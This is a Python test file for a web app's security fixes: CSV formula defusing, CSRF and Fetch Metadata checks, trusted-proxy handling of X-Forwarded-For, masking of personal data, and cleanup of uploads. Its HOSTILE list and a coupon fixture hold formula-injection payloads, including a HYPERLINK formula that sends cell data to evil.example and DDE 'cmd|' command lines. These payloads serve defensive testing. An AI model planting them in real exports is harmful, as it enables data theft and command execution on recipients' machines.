"""Issue 10, security items 8–13: what must not leak or be forged, on the app as assembled.

- personal data in quarantine (raw rows included) is masked for analysts (8);
- every CSV export defuses formula-like cells (9);
- console routes that read a JSON body survive a form body (10);
- ``/logout`` honours Fetch Metadata like every other form (11);
- ``X-Forwarded-For`` is believed only from configured proxies (12) — checked on the real
  ``growthwheel serve`` process too;
- uploads are deleted when their import ends, errors name the file as uploaded, never a server
  path, and a binary file gets a clear error (13).
"""

from __future__ import annotations

import csv
import io
import os
import re
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from growthwheel.accounts import service
from growthwheel.accounts.models import AuditEntry
from growthwheel.api.app import create_app
from growthwheel.config import Settings
from growthwheel.kit import export
from growthwheel.promotions import coupons
from growthwheel.store.db import session_scope


def _token(page_text: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', page_text)
    assert found is not None, "no CSRF token on the page"
    return found.group(1)


def _failed_login_ips(cfg: Settings) -> list[str | None]:
    with session_scope(cfg) as session:
        return list(session.scalars(sa.select(AuditEntry.ip).where(AuditEntry.action == "login.failed")
                                    .order_by(AuditEntry.id)))


@pytest.fixture
def app_client(store_cfg: Settings) -> Iterator[TestClient]:
    with TestClient(create_app(store_cfg)) as client:
        yield client


# --------------------------------------------------------------------------------------------
# 11. /logout and Fetch Metadata
# --------------------------------------------------------------------------------------------


def test_logout_from_another_site_is_refused_and_the_session_survives(
    app_client: TestClient, make_user: Callable[..., Any], log_in: Callable[..., Any]
) -> None:
    user = make_user("operator")
    log_in(app_client, user.email, user.password)
    token = _token(app_client.get("/imports").text)
    for site in ("cross-site", "same-site"):
        refused = app_client.post("/logout", data={"csrf_token": token},
                                  headers={"Sec-Fetch-Site": site}, follow_redirects=False)
        assert refused.status_code == 403, site
        assert refused.json()["code"] == "csrf_failed"
        assert app_client.get("/api/v1/me").status_code == 200  # still logged in
    done = app_client.post("/logout", data={"csrf_token": token},
                           headers={"Sec-Fetch-Site": "same-origin"}, follow_redirects=False)
    assert done.status_code == 303
    assert app_client.get("/api/v1/me").status_code == 401


# --------------------------------------------------------------------------------------------
# 12. X-Forwarded-For: only from trusted proxies
# --------------------------------------------------------------------------------------------


def _fail_login(client: TestClient, email: str, forwarded: str | None) -> int:
    token = service.anonymous_csrf_token(service.server_secret(client.app.state.cfg.data_dir))  # type: ignore[attr-defined]
    headers = {"X-Forwarded-For": forwarded} if forwarded is not None else {}
    response = client.post("/login", data={"email": email, "password": "wrong-password-123",
                                           "csrf_token": token},
                           headers=headers, follow_redirects=False)
    return response.status_code


@pytest.mark.parametrize("store_cfg", ["sqlite"], indirect=True)
def test_forwarded_for_is_used_only_behind_a_configured_proxy(store_cfg: Settings) -> None:
    cases = [  # (peer, X-Forwarded-For, address recorded)
        ("10.0.0.2", "198.51.100.7, 203.0.113.9", "203.0.113.9"),  # right-most untrusted hop
        ("10.0.0.2", "198.51.100.7, 10.9.9.9", "198.51.100.7"),  # through two proxies
        ("10.0.0.2", "203.0.113.5:4711", "203.0.113.5"),  # with a port
        ("10.0.0.2", "1.2.3.4, not-an-address", "10.0.0.2"),  # garbage: the proxy's own peer
        ("10.0.0.2", None, "10.0.0.2"),
        ("192.0.2.44", "198.51.100.7", "192.0.2.44"),  # the peer is no proxy: header ignored
    ]
    proxied = store_cfg.model_copy(update={"trusted_proxies": ["10.0.0.0/8"]})
    for n, (peer, forwarded, _) in enumerate(cases):
        with TestClient(create_app(proxied), client=(peer, 40000)) as client:
            assert _fail_login(client, f"nobody{n}@example.com", forwarded) == 303
    # Without the setting (the default) nobody's header is believed.
    with TestClient(create_app(store_cfg), client=("10.0.0.2", 40000)) as client:
        assert _fail_login(client, "nobody-else@example.com", "203.0.113.9") == 303
    assert _failed_login_ips(store_cfg) == [ip for _, _, ip in cases] + ["10.0.0.2"]


def test_trusted_proxies_setting_is_validated() -> None:
    cfg = Settings(trusted_proxies="127.0.0.1, 10.0.0.0/8 ::1")  # type: ignore[arg-type]
    assert cfg.trusted_proxies == ["127.0.0.1/32", "10.0.0.0/8", "::1/128"]
    assert Settings().trusted_proxies == []
    with pytest.raises(ValueError, match=re.escape("GROWTHWHEEL_TRUSTED_PROXIES: 'proxy.local'")):
        Settings(trusted_proxies="proxy.local")  # type: ignore[arg-type]


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.mark.parametrize("store_cfg", ["sqlite"], indirect=True)
def test_served_app_ignores_forged_forwarded_for(store_cfg: Settings, tmp_path: Path) -> None:
    """``growthwheel serve`` as a user runs it: a local client forging ``X-Forwarded-For`` on every
    attempt is still one address to the login throttle and to the audit log."""
    port = _free_port()
    env = {**os.environ, "GROWTHWHEEL_DATA_DIR": str(store_cfg.data_dir)}
    env.pop("GROWTHWHEEL_TRUSTED_PROXIES", None)
    log = (tmp_path / "serve.log").open("w")
    server = subprocess.Popen(
        [sys.executable, "-c", "from growthwheel.cli.main import main; main()", "serve",
         "--host", "127.0.0.1", "--port", str(port)],
        env=env, stdout=log, stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert server.poll() is None, (tmp_path / "serve.log").read_text()
            try:
                if httpx.get(f"{base}/api/v1/health", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            assert time.monotonic() < deadline, "the server did not start"
            time.sleep(0.2)
        token = service.anonymous_csrf_token(service.server_secret(store_cfg.data_dir))
        codes = []
        with httpx.Client(base_url=base, timeout=30) as client:
            for i in range(service.IP_FAILURE_LIMIT + 1):
                response = client.post("/login", data={"email": f"victim{i}@example.com",
                                                       "password": "wrong-password-123",
                                                       "csrf_token": token},
                                       headers={"X-Forwarded-For": f"203.0.113.{i + 1}"})
                codes.append(response.status_code)
    finally:
        server.terminate()
        server.wait(30)
        log.close()
    assert codes[:-1] == [303] * service.IP_FAILURE_LIMIT  # wrong password: back to the login page
    assert codes[-1] == 429  # one address, however many it claims to be
    assert set(_failed_login_ips(store_cfg)) == {"127.0.0.1"}


# --------------------------------------------------------------------------------------------
# 9. Formula injection: one escaping writer for every export
# --------------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x!A0",
           "@SUM(1+1)*cmd|x!A0", "\tTAB", "\uff1dSUM(1)"]


def test_export_cells_defuse_formulas_and_keep_numbers_and_phones() -> None:
    for payload in HOSTILE:
        written = export.cell(payload)
        assert written == "'" + payload
        assert export.is_defused(written)
    for harmless in ("-12.50", "+86 138-****-5678", "13800138000", "C0000031", "", "a=b"):
        assert export.cell(harmless) == harmless
    assert [export.cell(v) for v in (None, True, 3, 2.5, float("nan"))] == ["", "true", "3", "2.5", ""]
    text = "".join(export.csv_chunks(["a", "b"], [[p, 1] for p in HOSTILE], chunk=2))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["a", "b"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in HOSTILE]


def test_console_coupon_codes_csv_defuses_customer_ids_and_issue_keys(
    app_client: TestClient, store_cfg: Settings, make_user: Callable[..., Any], log_in: Callable[..., Any]
) -> None:
    start = datetime.now(UTC) - timedelta(days=1)
    with session_scope(store_cfg) as session:
        batch = coupons.create_batch(session, name="hostile", valid_from=start,
                                     valid_until=start + timedelta(days=30),
                                     definition={"reward": {"type": "order_amount_off", "amount": 1000}})
        coupons.issue(session, batch, ['=HYPERLINK("http://e.example","x")', "plain-1"],
                      issue_key="@SUM(1+1)")
        batch_id = batch.id
    operator = make_user("operator")
    log_in(app_client, operator.email, operator.password)
    response = app_client.get(f"/coupons/{batch_id}/codes.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 2
    for row in rows:
        for value in row.values():
            assert export.is_defused(value), value
    assert {r["issue_key"] for r in rows} == {"'@SUM(1+1)"}
    assert any(r["customer_id"].lower().startswith("'=hyperlink(") for r in rows)


# --------------------------------------------------------------------------------------------
# 10. A JSON-reading console route given a form body
# --------------------------------------------------------------------------------------------


def test_segment_preview_with_a_form_body_is_a_clear_refusal(
    app_client: TestClient, make_user: Callable[..., Any], log_in: Callable[..., Any]
) -> None:
    analyst = make_user("analyst")
    log_in(app_client, analyst.email, analyst.password)
    token = _token(app_client.get("/imports").text)
    definition = '{"all": [{"attribute": "city", "op": "eq", "value": "x"}]}'
    with_token = app_client.post("/segments/preview", data={"csrf_token": token, "definition": definition})
    assert with_token.status_code == 422
    assert with_token.json()["ok"] is False
    without = app_client.post("/segments/preview", data={"definition": definition})
    assert without.status_code == 403
    assert without.json()["code"] == "csrf_failed"
    huge = app_client.post("/segments/preview", data={"csrf_token": token, "definition": "x" * 300_000})
    assert huge.status_code == 422
    # The JSON the builder sends still works.
    ok = app_client.post("/segments/preview", json={"definition": {"all": []}},
                         headers={"X-CSRF-Token": token})
    assert ok.status_code == 200, ok.text
    assert (ok.json()["ok"], ok.json()["count"], ok.json()["masked"]) == (True, 0, True)


# --------------------------------------------------------------------------------------------
# 8 and 13. Quarantine shows no personal data to analysts; uploads go, paths never show
# --------------------------------------------------------------------------------------------

#: Row 2 has too many fields (the CSV reader refuses it whole: a raw row), row 3 a bad birthday.
WITH_RAW_ROW = (
    "customer_id,email,phone,name,birthday\n"
    "r1,ok.person@example.com,13800000001,Ok,1990-01-01\n"
    "r2,rita.secret@example.com,13912345678,Rita,1990-01-02,extra,fields\n"
    "r3,bob.hidden@example.org,+86 137-5555-4444,Bob,1990-13-45\n"
)
SECRETS = ("rita.secret@example.com", "13912345678", "bob.hidden@example.org", "137-5555-4444")


def _upload(client: TestClient, key: str, name: str, content: bytes, table: str = "customers") -> str:
    response = client.post("/api/v1/imports", headers={"Authorization": f"Bearer {key}"},
                           data={"table": table, "format": "generic"},
                           files=[("files", (name, content, "text/csv"))])
    assert response.status_code == 202, response.text
    return str(response.json()["id"])


def _finished(client: TestClient, key: str, job_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + 30
    while True:
        job: dict[str, Any] = client.get(f"/api/v1/imports/{job_id}",
                                         headers={"Authorization": f"Bearer {key}"}).json()
        if job["status"] in ("done", "failed"):
            return job
        assert time.monotonic() < deadline, job
        time.sleep(0.05)


def test_analysts_see_quarantined_rows_with_contacts_masked(
    app_client: TestClient, store_cfg: Settings, make_api_key: Callable[..., str],
    make_user: Callable[..., Any], log_in: Callable[..., Any]
) -> None:
    key = make_api_key("ingest", "read")
    job_id = _upload(app_client, key, "people.csv", WITH_RAW_ROW.encode())
    job = _finished(app_client, key, job_id)
    assert job["status"] == "done", job
    by_column = {r["column_name"]: r["value"] for r in job["quarantine"]}
    assert "rita.secret@example.com" in by_column["(row)"]  # an API key with `read` sees it whole
    assert by_column["birthday"] == "1990-13-45"

    analyst = make_user("analyst")
    log_in(app_client, analyst.email, analyst.password)
    pages = [app_client.get(f"/api/v1/imports/{job_id}"), app_client.get("/api/v1/quarantine"),
             app_client.get(f"/imports/{job_id}")]
    for response in pages:
        assert response.status_code == 200, response.url
        for secret in SECRETS:
            assert secret not in response.text, (response.url, secret)
    raw = {r["column_name"]: r["value"] for r in pages[0].json()["quarantine"]}["(row)"]
    assert raw.startswith("r2,r***@example.com,139****5678,Rita,1990-01-02,")  # the rest still helps
    assert "r***@example.com" in pages[2].text
    # Operators and admins see what was refused, as written.
    app_client.cookies.clear()
    admin = make_user("admin")
    log_in(app_client, admin.email, admin.password)
    assert "rita.secret@example.com" in app_client.get(f"/imports/{job_id}").text


def test_uploads_are_deleted_when_the_import_ends_and_errors_name_the_file(
    app_client: TestClient, store_cfg: Settings, make_api_key: Callable[..., str]
) -> None:
    key = make_api_key("ingest", "read")
    uploads = store_cfg.data_dir / "uploads"
    done = _finished(app_client, key, _upload(app_client, key, "people.csv", WITH_RAW_ROW.encode()))
    failed = _finished(app_client, key, _upload(app_client, key, "no id.csv", b"email,name\na@b.c,X\n"))
    assert (done["status"], failed["status"]) == ("done", "failed")
    assert list(uploads.iterdir()) == []  # success or failure: nothing kept
    assert failed["files"] == ["no id.csv"]
    assert failed["error"].startswith("no id.csv: missing required column(s) customer_id")
    for job in (done, failed):
        text = str(job)
        assert str(store_cfg.data_dir) not in text
        assert "uploads" not in text
    assert {r["file"] for r in done["quarantine"]} == {"people.csv"}
    # The quarantine outlives the upload.
    assert app_client.get("/api/v1/quarantine", headers={"Authorization": f"Bearer {key}"}).json()["items"]


XLSX_HEAD = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + bytes(range(256)) * 4


@pytest.mark.parametrize("store_cfg", ["sqlite"], indirect=True)
def test_binary_and_non_utf8_files_get_a_clear_error_naming_the_file(
    app_client: TestClient, store_cfg: Settings, make_api_key: Callable[..., str],
    make_user: Callable[..., Any], log_in: Callable[..., Any]
) -> None:
    key = make_api_key("ingest", "read")
    cases = [
        ("报表.csv", XLSX_HEAD, "file_not_text", "Excel .xlsx"),
        ("photo.csv", b"\x89PNG\r\n\x1a\n" + bytes(200), "file_not_text", "PNG"),
        ("zeros.csv", b"customer_id\n" + bytes(100), "file_not_text", "binary"),
        ("unicode.csv", "customer_id\nc1\n".encode("utf-16"), "file_not_utf8", "it is UTF-16"),
        ("gbk.csv", "customer_id,name\nc1,张三\n".encode("gbk"), "file_not_utf8",
         "not UTF-8 text (first at row 1)"),
        ("客户.csv", "邮箱,name\na@b.c,X\n".encode(), "missing_columns",
         "missing required column(s) customer_id"),
    ]
    jobs = {}
    for name, content, code, words in cases:
        job = _finished(app_client, key, _upload(app_client, key, name, content))
        assert (job["status"], job["error_code"]) == ("failed", code), job
        assert job["error"].startswith(f"{name}: "), job["error"]
        assert words in job["error"]
        assert "sniffing" not in job["error"]
        assert str(store_cfg.data_dir) not in job["error"]
        jobs[name] = job["id"]
    assert list((store_cfg.data_dir / "uploads").iterdir()) == []
    admin = make_user("admin")
    log_in(app_client, admin.email, admin.password)
    zh = app_client.get(f"/imports/{jobs['报表.csv']}", params={"lang": "zh"}).text
    assert "“报表.csv”不是文本文件" in zh
    # A file without the table's columns: the console says which, in the reader's language, and
    # names the file as uploaded (not the server's copy).
    page = app_client.get(f"/imports/{jobs['客户.csv']}", params={"lang": "zh"}).text
    assert "“客户.csv”缺少这张表必需的列：customer_id。文件中的列：邮箱, name。" in page
    assert str(store_cfg.data_dir) not in page
    en = app_client.get(f"/imports/{jobs['gbk.csv']}", params={"lang": "en"}).text
    assert "&#34;gbk.csv&#34; is not UTF-8 text" in en or '"gbk.csv" is not UTF-8 text' in en


@pytest.mark.parametrize("store_cfg", ["sqlite"], indirect=True)
def test_a_command_line_import_through_the_server_shows_no_server_path(
    app_client: TestClient, store_cfg: Settings, tmp_path: Path, make_api_key: Callable[..., str]
) -> None:
    """Jobs handed over by ``growthwheel import`` carry the shell's absolute paths: API readers see
    the file names only."""
    secret_dir = tmp_path / "home" / "someone" / "exports"
    secret_dir.mkdir(parents=True)
    bad = secret_dir / "customers.csv"
    bad.write_text("email,name\na@b.c,X\n", encoding="utf-8")
    owner = app_client.app.state.warehouse  # type: ignore[attr-defined]
    job_id = owner.submit_import("customers", [bad])
    key = make_api_key("read")
    job = _finished(app_client, key, job_id)
    assert job["status"] == "failed"
    assert job["files"] == ["customers.csv"]
    assert job["error"].startswith("customers.csv: missing required column(s)")
    assert "someone" not in str(job)


def test_leftover_uploads_are_swept_when_the_server_starts(store_cfg: Settings) -> None:
    leftover = store_cfg.data_dir / "uploads" / "0123abcd"
    leftover.mkdir(parents=True)
    (leftover / "01_orders.csv").write_bytes(b"x" * 1000)
    (store_cfg.data_dir / "uploads" / ".incoming-1").write_bytes(b"y")
    past = time.time() - 3600
    for path in (leftover / "01_orders.csv", leftover, store_cfg.data_dir / "uploads" / ".incoming-1"):
        os.utime(path, (past, past))
    with TestClient(create_app(store_cfg)) as client:
        assert client.get("/api/v1/health").status_code == 200
        assert list((store_cfg.data_dir / "uploads").iterdir()) == []


def test_server_errors_name_files_without_the_server_path(store_cfg: Settings) -> None:
    from fastapi import APIRouter

    from growthwheel.errors import ConfigError

    app = create_app(store_cfg)
    probe = APIRouter()

    @probe.get("/api/v1/_probe_config_error")
    def _broken() -> None:
        raise ConfigError(f"cannot read {store_cfg.data_dir / 'shop.json'}: not valid JSON")

    app.include_router(probe)
    with TestClient(app, raise_server_exceptions=False) as client:
        response = client.get("/api/v1/_probe_config_error")
    assert response.status_code == 500
    detail = response.json()["detail"]
    assert "shop.json" in detail  # the operator still learns which file is at fault
    assert str(store_cfg.data_dir) not in detail
    assert detail.startswith("cannot read shop.json")
